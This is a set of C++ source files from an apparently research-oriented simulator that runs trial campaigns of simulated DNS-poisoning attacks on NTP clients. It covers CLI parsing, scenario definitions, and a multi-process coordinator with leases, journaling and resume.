  auto fail = [&]() -> CliOptions& {
    usage(argv[0], scenario_flags);
    opts.ok = false;
    return opts;
  };
  for (int i = 1; i < argc; ++i) {
    const char* flag = argv[i];
    if (std::strcmp(flag, "--json") == 0) {
      opts.json = true;
      continue;
    }
    if (std::strcmp(flag, "--resume") == 0) {
      opts.config.resume = true;
      continue;
    }
    if (std::strcmp(flag, "--metrics") == 0) {
      opts.metrics = true;
      continue;
    }
    if (std::strcmp(flag, "--dist-worker") == 0) {
      opts.dist.worker_mode = true;
      continue;
    }
    const bool takes_value =
        std::strcmp(flag, "--workers") == 0 ||
        std::strcmp(flag, "--dist-fd-in") == 0 ||
        std::strcmp(flag, "--dist-fd-out") == 0 ||
        std::strcmp(flag, "--dist-worker-id") == 0 ||
        std::strcmp(flag, "--dist-kill-worker") == 0 ||
        std::strcmp(flag, "--dist-kill-after") == 0 ||
        std::strcmp(flag, "--trials") == 0 ||
        std::strcmp(flag, "--threads") == 0 ||
        std::strcmp(flag, "--seed") == 0 ||
        std::strcmp(flag, "--journal") == 0 ||
        std::strcmp(flag, "--out") == 0 ||
        std::strcmp(flag, "--trace") == 0 ||
        std::strcmp(flag, "--trace-index") == 0 ||
        std::strcmp(flag, "--dump") == 0 ||
        std::strcmp(flag, "--dump-on") == 0 ||
        std::strcmp(flag, "--progress") == 0 ||
        std::strcmp(flag, "--log-level") == 0 ||
        (scenario_flags && std::strcmp(flag, "--filter") == 0);
    if (!takes_value) {
      std::fprintf(stderr, "%s: unknown flag '%s'\n", argv[0], flag);
      return fail();
    }
    if (i + 1 >= argc) {
      std::fprintf(stderr, "%s: flag '%s' requires a value\n", argv[0], flag);
      return fail();
    }
    const char* value = argv[++i];
    u64 parsed = 0;
    if (std::strcmp(flag, "--trials") == 0) {
      if (!parse_u64_token(value, parsed) || parsed == 0 ||
          parsed > std::numeric_limits<u32>::max()) {
        std::fprintf(stderr,
                     "%s: invalid value '%s' for flag '--trials' "
                     "(want an integer in 1..4294967295)\n",
                     argv[0], value);
        return fail();
      }
      opts.config.trials = static_cast<u32>(parsed);
    } else if (std::strcmp(flag, "--threads") == 0) {
      if (!parse_u64_token(value, parsed) ||
          parsed > std::numeric_limits<u32>::max()) {
        std::fprintf(stderr,
                     "%s: invalid value '%s' for flag '--threads' "
                     "(want an unsigned integer; 0 = all cores, "
                     "capped at 1024)\n",
                     argv[0], value);
        return fail();
      }
      opts.config.threads = static_cast<u32>(parsed);
    } else if (std::strcmp(flag, "--seed") == 0) {
      if (!parse_u64_token(value, parsed)) {
        std::fprintf(stderr,
                     "%s: invalid value '%s' for flag '--seed' "
                     "(want an unsigned 64-bit integer)\n",
                     argv[0], value);
        return fail();
      }
      opts.config.seed = parsed;
    } else if (std::strcmp(flag, "--journal") == 0) {
      opts.config.journal_dir = value;
    } else if (std::strcmp(flag, "--out") == 0) {
      opts.out = value;
    } else if (std::strcmp(flag, "--trace") == 0) {
      opts.config.trace_path = value;
    } else if (std::strcmp(flag, "--dump") == 0) {
      opts.config.dump_dir = value;
    } else if (std::strcmp(flag, "--dump-on") == 0) {
      if (std::strcmp(value, "auto") != 0 &&
          std::strcmp(value, "error") != 0 &&
          std::strcmp(value, "timeout") != 0 &&
          std::strcmp(value, "attack-failed") != 0 &&
          std::strcmp(value, "always") != 0) {
        std::fprintf(stderr,
                     "%s: invalid value '%s' for flag '--dump-on' (want "
                     "auto, error, timeout, attack-failed or always)\n",
                     argv[0], value);
        return fail();
      }
      opts.config.dump_on = value;
    } else if (std::strcmp(flag, "--progress") == 0) {
      opts.config.progress_path = value;
    } else if (std::strcmp(flag, "--workers") == 0) {
      if (!parse_u64_token(value, parsed) || parsed > 256) {
        std::fprintf(stderr,
                     "%s: invalid value '%s' for flag '--workers' "
                     "(want an integer in 0..256; >= 2 runs that many "
                     "worker processes)\n",
                     argv[0], value);
        return fail();
      }
      opts.dist.workers = static_cast<u32>(parsed);
    } else if (std::strcmp(flag, "--dist-fd-in") == 0 ||
               std::strcmp(flag, "--dist-fd-out") == 0) {
      if (!parse_u64_token(value, parsed) ||
          parsed > std::numeric_limits<int>::max()) {
        std::fprintf(stderr,
                     "%s: invalid value '%s' for flag '%s' "
                     "(want an inherited file descriptor number)\n",
                     argv[0], value, flag);
        return fail();
      }
      (std::strcmp(flag, "--dist-fd-in") == 0 ? opts.dist.fd_in
                                              : opts.dist.fd_out) =
          static_cast<int>(parsed);
    } else if (std::strcmp(flag, "--dist-worker-id") == 0) {
      if (!parse_u64_token(value, parsed) || parsed > 256) {
        std::fprintf(stderr,
                     "%s: invalid value '%s' for flag '--dist-worker-id'\n",
                     argv[0], value);
        return fail();
      }
      opts.dist.worker_id = static_cast<u32>(parsed);
    } else if (std::strcmp(flag, "--dist-kill-worker") == 0) {
      if (!parse_u64_token(value, parsed) || parsed > 256) {
        std::fprintf(stderr,
                     "%s: invalid value '%s' for flag '--dist-kill-worker' "
                     "(want a worker index)\n",
                     argv[0], value);
        return fail();
      }
      opts.dist.kill_worker = static_cast<int>(parsed);
    } else if (std::strcmp(flag, "--dist-kill-after") == 0) {
      if (!parse_u64_token(value, parsed)) {
        std::fprintf(stderr,
                     "%s: invalid value '%s' for flag '--dist-kill-after' "
                     "(want a trial count)\n",
                     argv[0], value);
        return fail();
      }
      opts.dist.kill_after = parsed;
    } else if (std::strcmp(flag, "--trace-index") == 0) {
      if (!parse_u64_token(value, parsed)) {
        std::fprintf(stderr,
                     "%s: invalid value '%s' for flag '--trace-index' "
                     "(want a flattened trial index, "
                     "scenario_index * trials + trial_index)\n",
                     argv[0], value);
        return fail();
      }
      opts.config.trace_index = parsed;
    } else if (std::strcmp(flag, "--log-level") == 0) {
      const std::optional<LogLevel> level = parse_log_level(value);
      if (!level) {
        std::fprintf(stderr,
                     "%s: invalid value '%s' for flag '--log-level' "
                     "(want trace, debug, info, warn or off)\n",
                     argv[0], value);
        return fail();
      }
      Logger::set_level(*level);
    } else {
      opts.filter = value;
    }
  }
  if (opts.config.resume && opts.config.journal_dir.empty()) {
    std::fprintf(stderr, "%s: '--resume' requires '--journal DIR'\n",
                 argv[0]);
    return fail();
  }
  if (opts.dist.worker_mode &&
      (opts.dist.fd_in < 0 || opts.dist.fd_out < 0 ||
       opts.config.journal_dir.empty())) {
    std::fprintf(stderr,
                 "%s: '--dist-worker' needs '--dist-fd-in N', "
                 "'--dist-fd-out N' and '--journal DIR' (it is spawned by "
                 "the coordinator, not invoked by hand)\n",
                 argv[0]);
    return fail();
  }
  if (!opts.dist.worker_mode && opts.dist.workers >= 2) {
    if (opts.config.journal_dir.empty()) {
      std::fprintf(stderr, "%s: '--workers' requires '--journal DIR'\n",
                   argv[0]);
      return fail();
    }
    if (!opts.config.trace_path.empty() || !opts.config.dump_dir.empty()) {
      std::fprintf(stderr,
                   "%s: '--trace'/'--dump' are not supported with "
                   "'--workers' (trials execute in worker processes)\n",
                   argv[0]);
      return fail();
    }
    // argv for worker re-exec: everything except the coordinator-only
    // flags (--workers would recurse; the kill hook must fire exactly
    // once, in the coordinator).
    opts.dist.respawn_args.emplace_back(argv[0]);
    for (int i = 1; i < argc; ++i) {
      if (std::strcmp(argv[i], "--workers") == 0 ||
          std::strcmp(argv[i], "--dist-kill-worker") == 0 ||
          std::strcmp(argv[i], "--dist-kill-after") == 0) {
        i++;  // skip the flag's value too
        continue;
      }
      // Workers never scan or resume the journal — the coordinator already
      // validated and cleaned it — and their report/metrics flags would be
      // dead weight; strip the ones that change observable behaviour.
      if (std::strcmp(argv[i], "--resume") == 0) continue;
      opts.dist.respawn_args.emplace_back(argv[i]);
    }
  }
  if (!opts.config.dump_dir.empty() && !DNSTIME_OBS) {
    std::fprintf(stderr,
                 "%s: '--dump' requires an observability build "
                 "(DNSTIME_OBS=1)\n",
                 argv[0]);
    return fail();
  }
  return opts;
}

bool write_report(const CliOptions& opts, const CampaignReport& report) {
  // Journaled runs carry no per-trial rows in memory — the shards hold
  // them — so their JSON serialises aggregates only. This also keeps the
  // output comparable across journaled runs, resumes and thread counts.
  const bool include_trials = opts.config.journal_dir.empty();
  std::string text;
  if (opts.json) {
    text = report.to_json(include_trials,
                          opts.metrics ? metrics_json() : std::string{}) +
           "\n";
  } else {
    text = report.to_table();
    if (opts.metrics) text += metrics_table();
  }
  if (opts.out.empty()) {
    if (std::fwrite(text.data(), 1, text.size(), stdout) != text.size()) {
      std::fprintf(stderr, "failed writing report to stdout\n");
      return false;
    }
    return true;
  }
  std::FILE* f = std::fopen(opts.out.c_str(), "w");
  if (f == nullptr) {
    std::fprintf(stderr, "cannot open '%s' for writing: %s\n",
                 opts.out.c_str(), std::strerror(errno));
    return false;
  }
  const bool wrote = std::fwrite(text.data(), 1, text.size(), f) ==
                     text.size();
  const bool closed = std::fclose(f) == 0;
  if (!wrote || !closed) {
    std::fprintf(stderr, "failed writing report to '%s'\n", opts.out.c_str());
    return false;
  }
  return true;
}

}  // namespace dnstime::campaign
