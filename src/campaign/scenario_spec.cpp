#include "campaign/scenario_spec.h"

#include <stdexcept>

namespace dnstime::campaign {

const char* to_string(ClientKind k) {
  switch (k) {
    case ClientKind::kNtpdKnownList: return "ntpd-p1";
    case ClientKind::kNtpdRefid: return "ntpd-p2";
    case ClientKind::kChrony: return "chrony";
    case ClientKind::kOpenntpd: return "openntpd";
  }
  return "?";
}

const char* to_string(AttackKind k) {
  switch (k) {
    case AttackKind::kRunTime: return "run-time";
    case AttackKind::kBootTime: return "boot-time";
    case AttackKind::kChronos: return "chronos";
    case AttackKind::kCustom: return "custom";
  }
  return "?";
}

ScenarioRegistry& ScenarioRegistry::add(ScenarioSpec spec) {
  if (find(spec.name) != nullptr) {
    throw std::invalid_argument("duplicate scenario name: " + spec.name);
  }
  specs_.push_back(std::move(spec));
  return *this;
}

const ScenarioSpec* ScenarioRegistry::find(std::string_view name) const {
  for (const auto& s : specs_) {
    if (s.name == name) return &s;
  }
  return nullptr;
}

std::vector<ScenarioSpec> ScenarioRegistry::select(
    std::string_view prefix) const {
  std::vector<ScenarioSpec> out;
  for (const auto& s : specs_) {
    if (std::string_view(s.name).substr(0, prefix.size()) == prefix) {
      out.push_back(s);
    }
  }
  return out;
}

ScenarioSpec table2_scenario(ClientKind client) {
  ScenarioSpec spec;
  spec.name = std::string("table2/") + to_string(client);
  spec.description =
      std::string("run-time attack duration against ") + to_string(client);
  spec.client = client;
  spec.attack = AttackKind::kRunTime;
  if (client == ClientKind::kOpenntpd) {
    // openntpd never re-queries DNS on its own; the trial models a
    // 60-minute stall watchdog restart, so give the clock room to land.
    spec.stop.settle = sim::Duration::minutes(30);
  }
  return spec;
}

ScenarioSpec boot_time_scenario() {
  ScenarioSpec spec;
  spec.name = "boot-time/ntpd";
  spec.description =
      "poison the resolver first, then boot an ntpd into the attacker";
  spec.attack = AttackKind::kBootTime;
  spec.stop.deadline = sim::Duration::minutes(30);
  spec.stop.settle = sim::Duration::minutes(10);
  return spec;
}

ScenarioSpec chronos_scenario(int honest_rounds) {
  ScenarioSpec spec;
  spec.name = "chronos/pool-freeze";
  spec.description = "freeze the Chronos pool with one long-TTL poisoning";
  spec.attack = AttackKind::kChronos;
  spec.chronos_honest_rounds = honest_rounds;
  spec.world.pool_size = 96;
  spec.world.attacker_ntp_count = 89;
  spec.world.rate_limit_fraction = 0.0;
  spec.stop.deadline = sim::Duration::hours(27);
  spec.stop.settle = sim::Duration::hours(1);
  return spec;
}

ScenarioSpec forensics_frag_filter_scenario() {
  ScenarioSpec spec = table2_scenario(ClientKind::kNtpdKnownList);
  spec.name = "forensics/frag-filter";
  spec.description =
      "run-time attack against a fragment-filtering resolver; fails by "
      "design so narrative dumps have a reproducible chain break";
  spec.world.resolver_stack.accept_fragments = false;
  spec.stop.deadline = sim::Duration::minutes(45);
  spec.stop.settle = sim::Duration::minutes(5);
  return spec;
}

std::vector<ScenarioSpec> mtu_sweep(const std::vector<u16>& mtus) {
  std::vector<ScenarioSpec> out;
  for (u16 mtu : mtus) {
    ScenarioSpec spec = boot_time_scenario();
    spec.name = "sweep/mtu-" + std::to_string(mtu);
    spec.description = "boot-time poisoning with attack MTU " +
                       std::to_string(mtu) + " B";
    spec.world.attack_mtu = mtu;
    out.push_back(std::move(spec));
  }
  return out;
}

std::vector<ScenarioSpec> pool_size_sweep(
    const std::vector<std::size_t>& sizes) {
  std::vector<ScenarioSpec> out;
  for (std::size_t n : sizes) {
    ScenarioSpec spec = boot_time_scenario();
    spec.name = "sweep/pool-" + std::to_string(n);
    spec.description =
        "boot-time poisoning with " + std::to_string(n) + " pool servers";
    spec.world.pool_size = n;
    out.push_back(std::move(spec));
  }
  return out;
}

std::vector<ScenarioSpec> rate_limit_sweep(
    const std::vector<double>& fractions) {
  std::vector<ScenarioSpec> out;
  for (double f : fractions) {
    ScenarioSpec spec = table2_scenario(ClientKind::kNtpdKnownList);
    int pct = static_cast<int>(f * 100.0 + 0.5);
    spec.name = "sweep/ratelimit-" + std::to_string(pct);
    spec.description = "run-time attack with " + std::to_string(pct) +
                       "% of pool servers rate limiting";
    spec.world.rate_limit_fraction = f;
    out.push_back(std::move(spec));
  }
  return out;
}

std::vector<ScenarioSpec> ttl_sweep(const std::vector<u32>& ttls) {
  std::vector<ScenarioSpec> out;
  for (u32 ttl : ttls) {
    ScenarioSpec spec = boot_time_scenario();
    spec.name = "sweep/ttl-" + std::to_string(ttl);
    spec.description =
        "boot-time poisoning with pool A TTL " + std::to_string(ttl) + " s";
    spec.world.pool_a_ttl = ttl;
    out.push_back(std::move(spec));
  }
  return out;
}

ScenarioRegistry ScenarioRegistry::builtin() {
  ScenarioRegistry reg;
  reg.add(table2_scenario(ClientKind::kNtpdRefid));
  reg.add(table2_scenario(ClientKind::kNtpdKnownList));
  reg.add(table2_scenario(ClientKind::kOpenntpd));
  reg.add(table2_scenario(ClientKind::kChrony));
  reg.add(boot_time_scenario());
  reg.add(chronos_scenario());
  reg.add(forensics_frag_filter_scenario());
  reg.add(population_shared_resolver_scenario());
  reg.add(population_ratelimit_herd_scenario());
  for (auto& s : mtu_sweep()) reg.add(std::move(s));
  for (auto& s : pool_size_sweep()) reg.add(std::move(s));
  for (auto& s : rate_limit_sweep()) reg.add(std::move(s));
  for (auto& s : ttl_sweep()) reg.add(std::move(s));
  return reg;
}

}  // namespace dnstime::campaign
