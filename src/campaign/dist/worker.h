// Worker side of the distributed campaign (campaign/dist/coordinator.h):
// a child process that executes trial-range leases received over a pipe
// and journals every result into per-lease shards.
//
// Workers are spawned by re-exec'ing the coordinator's own binary with the
// hidden --dist-worker flags, so coordinator and workers share one
// scenario registry, one campaign config and one JournalMeta by
// construction — the identity checks that protect resume protect the
// fleet for free.
#pragma once

#include <vector>

#include "campaign/dist/options.h"
#include "campaign/runner.h"
#include "campaign/scenario_spec.h"

namespace dnstime::campaign::dist {

/// Exit-code contract (documented in src/campaign/README.md):
enum WorkerExit : int {
  kWorkerOk = 0,        ///< clean FIN from the coordinator
  kWorkerBadFlags = 2,  ///< CLI rejected the flag set (set by parse_cli use)
  kWorkerProtocol = 3,  ///< pipe EOF before FIN, or an unparseable message
  kWorkerJournal = 4,   ///< shard create/append/close failure
};

/// Runs the lease-execute-journal loop until FIN, wired by opt.fd_in /
/// opt.fd_out / opt.worker_id. Never returns a report: the journal is the
/// only output channel for results (plus the DONE stream for accounting
/// and an optional per-worker progress JSONL file when
/// config.progress_path names a directory). Returns a WorkerExit value
/// for main() to return.
[[nodiscard]] int run_worker(const CampaignConfig& config,
                             const std::vector<ScenarioSpec>& scenarios,
                             const DistOptions& opt);

}  // namespace dnstime::campaign::dist
