// Lease protocol and work-stealing state machine for the distributed
// campaign coordinator (campaign/dist/coordinator.h).
//
// A campaign's work is its flattened trial range [0, scenarios * trials):
// per-trial seeds are pure functions of (campaign seed, scenario name,
// trial index), so any process may execute any trial and the journal merge
// reassembles global order. The coordinator owns a LeaseBook and hands out
// half-open ranges ("leases") to worker processes over a line protocol:
//
//   coordinator -> worker:
//     LEASE <begin> <end> <shard_id>\n   execute trials [begin, end),
//                                        journal them into shard <shard_id>
//     TRIM <new_end>\n                   shrink the active lease: stop
//                                        before flat index >= new_end
//     FIN\n                              no more work; exit 0
//   worker -> coordinator:
//     DONE <flat_index> <success>\n      one trial finished and its journal
//                                        frame is flushed
//
// TRIM is advisory and racy by design: the victim may have journaled trials
// past the new end before the message arrives. That overlap is harmless —
// the thief re-executes the same deterministic trials into its own shard
// and JournalMerge's cross-shard dedupe keeps exactly one copy.
//
// LeaseBook is a pure state machine (no I/O, no clocks) so the stealing,
// reissue and dedupe logic is unit-testable without processes.
#pragma once

#include <cstddef>
#include <deque>
#include <optional>
#include <string>
#include <vector>

#include "campaign/store/journal_reader.h"
#include "common/types.h"

namespace dnstime::campaign::dist {

using store::TrialRange;

/// One unit of handed-out work. Every lease gets a fresh shard id so each
/// (worker, lease) writes one shard with strictly ascending trial keys —
/// the ordering contract JournalMerge enforces per shard.
struct Lease {
  u64 begin = 0;
  u64 end = 0;  ///< exclusive; may shrink via TRIM after a steal
  u32 shard_id = 0;
  bool operator==(const Lease&) const = default;
};

/// Protocol codec: one message per line, space-separated decimal fields.
/// Parsers are strict (unknown verb, missing/overflowing/junk-trailing
/// fields all fail) because a desynchronised pipe must kill the run, not
/// corrupt the work accounting.
struct Msg {
  enum class Kind { Lease, Trim, Fin, Done };
  Kind kind = Kind::Fin;
  u64 a = 0;  ///< LEASE begin / TRIM new_end / DONE flat_index
  u64 b = 0;  ///< LEASE end / DONE success (0|1)
  u32 shard_id = 0;  ///< LEASE only

  [[nodiscard]] std::string encode() const;  ///< includes trailing '\n'
  /// Parses one line WITHOUT its trailing '\n'. nullopt on any malformation.
  [[nodiscard]] static std::optional<Msg> parse(const std::string& line);
};

/// Tracks outstanding leases, per-worker progress, and the global done set.
/// All mutation is driven by the coordinator's event loop; time never
/// appears here, so identical event sequences yield identical decisions.
class LeaseBook {
 public:
  /// `pending` is the not-yet-journaled work (store::pending_ranges), and
  /// `first_shard_id` the lowest shard id no existing file uses.
  LeaseBook(std::vector<TrialRange> pending, u64 total_trials,
            u32 num_workers, u32 first_shard_id);

  struct Assignment {
    Lease lease;
    bool stolen = false;
    u32 victim = 0;          ///< valid when stolen: worker to TRIM
    u64 victim_new_end = 0;  ///< valid when stolen: TRIM argument
  };

  /// Next lease for an idle worker: the front pool range if any, else half
  /// of the largest outstanding remainder (steal), else nullopt (park the
  /// worker — a later death may still produce work for it).
  [[nodiscard]] std::optional<Assignment> next_assignment(u32 worker);

  /// Records one DONE. Duplicate indices (reissued-lease overlap) are
  /// counted once. Advances the worker's progress watermark when the index
  /// belongs to its active lease.
  void mark_done(u32 worker, u64 flat_index);

  /// Returns the not-yet-done tail of the worker's active lease to the
  /// pool and clears the lease. Call on worker death; parked workers can
  /// then pick the remainder up via next_assignment.
  void worker_dead(u32 worker);

  /// True once every trial in every pending range is done.
  [[nodiscard]] bool all_done() const { return done_count_ == target_; }

  [[nodiscard]] u64 done_count() const { return done_count_; }
  [[nodiscard]] u64 target() const { return target_; }
  [[nodiscard]] bool worker_busy(u32 worker) const;
  /// The worker's active lease (begin frozen at assignment; end reflects
  /// TRIMs the book issued against it).
  [[nodiscard]] const Lease& active_lease(u32 worker) const;
  [[nodiscard]] u32 shard_ids_issued() const { return next_shard_id_; }

 private:
  struct WorkerState {
    bool busy = false;
    Lease lease;
    u64 progress = 0;  ///< next index the worker has NOT acked
  };

  std::deque<TrialRange> pool_;
  std::vector<WorkerState> workers_;
  std::vector<u8> done_;  ///< by flat index; dedupes reissued overlap
  u64 done_count_ = 0;
  u64 target_ = 0;  ///< trials needing execution (resume skips journaled)
  u32 next_shard_id_ = 0;
};

}  // namespace dnstime::campaign::dist
