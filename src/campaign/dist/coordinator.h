// Multi-process campaign coordinator: partitions the flattened trial
// range across N worker processes, hands out leases over pipes, steals
// work back from stragglers, reissues the un-acked remainder of dead
// workers, and folds the shared journal into the same CampaignReport a
// single-process single-thread run produces — byte-identical, because
// per-trial seeds are pure functions of (campaign seed, scenario name,
// trial index) and the merge fold preserves global trial order.
//
// Failure model: a worker may die at any instant (crash, OOM-kill,
// SIGKILL). Everything it journaled before dying survives — shards are
// flushed per frame and the DONE ack is sent only after the flush — and
// the un-acked tail of its lease is reissued to a surviving worker.
// Duplicate trials from reissue/steal races are collapsed by the merge's
// cross-shard dedupe (identical bytes either way: trials are
// deterministic). The coordinator itself dying leaves a resumable journal
// directory: rerunning with --resume re-leases exactly the missing
// trials.
#pragma once

#include <vector>

#include "campaign/dist/options.h"
#include "campaign/runner.h"
#include "campaign/scenario_spec.h"

namespace dnstime::campaign::dist {

/// Runs the campaign across opt.workers processes. Requires a journal
/// directory in `config` (the journal is the only channel results travel
/// by); trace/dump/metrics are coordinator-side no-ops and rejected by the
/// CLI. Throws std::runtime_error on unrecoverable failures: every worker
/// dead with work outstanding, a worker exiting nonzero after a clean FIN,
/// or an incomplete journal after the run.
[[nodiscard]] CampaignReport run_coordinator(
    const CampaignConfig& config, const std::vector<ScenarioSpec>& scenarios,
    const DistOptions& opt);

}  // namespace dnstime::campaign::dist
