#include "campaign/dist/coordinator.h"

#include <fcntl.h>
#include <poll.h>
#include <csignal>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <chrono>
#include <cstdio>
#include <cstring>
#include <filesystem>
#include <functional>
#include <memory>
#include <stdexcept>
#include <unordered_map>

#include "campaign/dist/lease.h"
#include "campaign/dist/worker.h"
#include "campaign/store/journal.h"
#include "campaign/store/journal_reader.h"
#include "obs/json_util.h"

namespace dnstime::campaign::dist {
namespace {

namespace fs = std::filesystem;

bool write_all(int fd, const std::string& data) {
  std::size_t off = 0;
  while (off < data.size()) {
    const ssize_t n = ::write(fd, data.data() + off, data.size() - off);
    if (n < 0) {
      if (errno == EINTR) continue;
      return false;
    }
    off += static_cast<std::size_t>(n);
  }
  return true;
}

/// The coordinator's view of one worker process.
struct WorkerProc {
  pid_t pid = -1;
  int rfd = -1;  ///< worker's DONE stream
  int wfd = -1;  ///< control messages to the worker
  std::string inbuf;
  bool alive = false;
  bool reaped = false;
  bool finned = false;
};

void close_fd(int& fd) {
  if (fd >= 0) {
    ::close(fd);
    fd = -1;
  }
}

/// Resolves the running executable for worker re-exec. /proc/self/exe is
/// authoritative on Linux; argv[0] is the portable fallback.
std::string self_exe(const std::string& argv0) {
  char buf[4096];
  const ssize_t n = ::readlink("/proc/self/exe", buf, sizeof buf - 1);
  if (n > 0) {
    buf[n] = '\0';
    return std::string(buf);
  }
  return argv0;
}

void spawn_worker(const std::string& exe,
                  const std::vector<std::string>& base_args, u32 worker_id,
                  WorkerProc& w) {
  int to_worker[2];    // coordinator writes, worker reads
  int from_worker[2];  // worker writes, coordinator reads
  if (::pipe(to_worker) != 0 || ::pipe(from_worker) != 0) {
    throw std::runtime_error(std::string("pipe failed: ") +
                             std::strerror(errno));
  }

  std::vector<std::string> args = base_args;
  args.push_back("--dist-worker");
  args.push_back("--dist-fd-in");
  args.push_back(std::to_string(to_worker[0]));
  args.push_back("--dist-fd-out");
  args.push_back(std::to_string(from_worker[1]));
  args.push_back("--dist-worker-id");
  args.push_back(std::to_string(worker_id));
  std::vector<char*> argv;
  argv.reserve(args.size() + 1);
  for (std::string& a : args) argv.push_back(a.data());
  argv.push_back(nullptr);

  const pid_t pid = ::fork();
  if (pid < 0) {
    throw std::runtime_error(std::string("fork failed: ") +
                             std::strerror(errno));
  }
  if (pid == 0) {
    // Child: drop the coordinator-side ends, keep our own (their fd
    // numbers are what the flags above name), exec the same binary.
    ::close(to_worker[1]);
    ::close(from_worker[0]);
    ::execv(exe.c_str(), argv.data());
    std::fprintf(stderr, "dist worker exec '%s' failed: %s\n", exe.c_str(),
                 std::strerror(errno));
    ::_exit(127);
  }
  // Parent: close the child-side ends now — EOF detection on rfd depends
  // on no other process holding the write end — and keep the coordinator
  // ends out of later children via CLOEXEC.
  ::close(to_worker[0]);
  ::close(from_worker[1]);
  (void)::fcntl(to_worker[1], F_SETFD, FD_CLOEXEC);
  (void)::fcntl(from_worker[0], F_SETFD, FD_CLOEXEC);
  // Non-blocking reads: the event loop drains "until EAGAIN", which a
  // blocking fd would turn into a stall whenever a worker's burst landed
  // on an exact buffer boundary.
  (void)::fcntl(from_worker[0], F_SETFL, O_NONBLOCK);
  w.pid = pid;
  w.wfd = to_worker[1];
  w.rfd = from_worker[0];
  w.alive = true;
}

}  // namespace

CampaignReport run_coordinator(const CampaignConfig& config,
                               const std::vector<ScenarioSpec>& scenarios,
                               const DistOptions& opt) {
  if (config.journal_dir.empty()) {
    throw std::invalid_argument(
        "distributed campaigns require a journal directory (--journal)");
  }
  if (opt.workers < 2 || opt.respawn_args.empty()) {
    throw std::invalid_argument("run_coordinator needs --workers >= 2");
  }
  // A broken worker pipe must come back as a write error, not kill us.
  std::signal(SIGPIPE, SIG_IGN);

  const u32 trials = config.trials;
  const std::string& dir = config.journal_dir;
  const u64 total = static_cast<u64>(scenarios.size()) * trials;
  const store::JournalMeta meta =
      store::JournalMeta::describe(config.seed, trials, scenarios);
  {
    // Same up-front identity guard as CampaignRunner::run_journaled:
    // records are keyed by scenario-name hash, so collisions must fail
    // before any process journals anything.
    std::unordered_map<u64, const std::string*> names;
    names.reserve(meta.scenarios.size());
    for (const store::JournalMeta::Scenario& s : meta.scenarios) {
      auto [it, inserted] = names.emplace(store::fnv1a(s.name), &s.name);
      if (!inserted) {
        throw std::invalid_argument(
            "cannot journal campaign: scenario name '" + s.name +
            (*it->second == s.name
                 ? "' is duplicated"
                 : "' hash-collides with '" + *it->second + "'"));
      }
    }
  }
  fs::create_directories(dir);

  store::JournalScan scan = store::scan_journal(dir);
  if (!scan.shards.empty() && !config.resume) {
    throw std::runtime_error(
        "journal directory '" + dir +
        "' already contains shards; pass resume (--resume) to continue "
        "that campaign or point --journal at a fresh directory");
  }
  u32 next_shard_id = 0;
  for (const store::ShardState& st : scan.shards) {
    next_shard_id = std::max(next_shard_id, st.shard_id + 1);
  }
  if (config.resume && scan.found) {
    if (scan.meta.campaign_seed != meta.campaign_seed) {
      throw std::runtime_error(
          "cannot resume: journal '" + dir + "' was written with seed " +
          std::to_string(scan.meta.campaign_seed) + ", this campaign uses " +
          std::to_string(meta.campaign_seed));
    }
    if (scan.meta.trials_per_scenario != meta.trials_per_scenario) {
      throw std::runtime_error(
          "cannot resume: journal '" + dir + "' ran " +
          std::to_string(scan.meta.trials_per_scenario) +
          " trials/scenario, this campaign runs " +
          std::to_string(meta.trials_per_scenario));
    }
    if (scan.meta.fingerprint() != meta.fingerprint()) {
      throw std::runtime_error("cannot resume: journal '" + dir +
                               "' describes a different scenario set");
    }
  }
  if (config.resume) store::truncate_torn_tails(scan);

  LeaseBook book(store::pending_ranges(scan, scenarios.size(), trials), total,
                 opt.workers, next_shard_id);

  // Coordinator-side fleet progress stream (campaign-level lines only; the
  // per-scenario detail comes from the workers' own files in the same
  // directory). Wall time here feeds nothing but this stream.
  std::FILE* progress_file = nullptr;
  if (!config.progress_path.empty()) {
    fs::create_directories(config.progress_path);
    const std::string path = config.progress_path + "/coordinator.jsonl";
    progress_file = std::fopen(path.c_str(), "wb");
    if (progress_file == nullptr) {
      throw std::runtime_error("cannot open progress file '" + path +
                               "' for writing");
    }
  }
  const auto close_file = [](std::FILE* f) {
    if (f != nullptr) std::fclose(f);
  };
  std::unique_ptr<std::FILE, decltype(close_file)> progress_guard(
      progress_file, close_file);
  // det-lint: allow(wallclock) elapsed/ETA for the progress stream only
  const auto campaign_start = std::chrono::steady_clock::now();
  const auto emit_progress = [&](u64 done) {
    if (progress_file == nullptr) return;
    const double elapsed_s =
        // det-lint: allow(wallclock) elapsed/ETA for the progress stream only
        std::chrono::duration<double>(std::chrono::steady_clock::now() -
                                      campaign_start)
            .count();
    std::string line;
    line.reserve(128);
    line += "{\"campaign_done\":";
    line += std::to_string(done);
    line += ",\"campaign_total\":";
    line += std::to_string(book.target());
    line += ",\"elapsed_s\":";
    obs::append_double(line, elapsed_s);
    line += ",\"eta_s\":";
    obs::append_double(
        line, done == 0 ? 0.0
                        : elapsed_s *
                              static_cast<double>(book.target() - done) /
                              static_cast<double>(done));
    line += "}\n";
    std::fputs(line.c_str(), progress_file);
    std::fflush(progress_file);
  };

  std::vector<WorkerProc> workers(opt.workers);
  bool kill_fired = opt.kill_worker < 0;

  const auto send = [&](u32 w, const Msg& m) {
    if (!workers[w].alive) return false;
    return write_all(workers[w].wfd, m.encode());
  };
  // Forward-declared so assignment failures can recurse into the death
  // handler (which itself reassigns work).
  std::function<void(u32)> on_worker_dead;
  const auto try_assign = [&](u32 w) -> bool {
    if (!workers[w].alive || book.worker_busy(w)) return true;
    std::optional<LeaseBook::Assignment> a = book.next_assignment(w);
    if (!a) return true;  // parked: a later death may still feed it
    if (a->stolen) {
      Msg trim;
      trim.kind = Msg::Kind::Trim;
      trim.a = a->victim_new_end;
      if (!send(a->victim, trim)) on_worker_dead(a->victim);
    }
    Msg lease;
    lease.kind = Msg::Kind::Lease;
    lease.a = a->lease.begin;
    lease.b = a->lease.end;
    lease.shard_id = a->lease.shard_id;
    if (!send(w, lease)) {
      on_worker_dead(w);
      return false;
    }
    return true;
  };
  on_worker_dead = [&](u32 w) {
    WorkerProc& p = workers[w];
    if (!p.alive) return;
    p.alive = false;
    close_fd(p.wfd);
    close_fd(p.rfd);
    if (!p.reaped) {
      int status = 0;
      (void)::waitpid(p.pid, &status, 0);
      p.reaped = true;
    }
    book.worker_dead(w);
    // The reissued remainder can only be picked up by a parked worker —
    // busy ones will ask when their lease completes.
    for (u32 v = 0; v < opt.workers; ++v) {
      if (v != w) (void)try_assign(v);
    }
  };

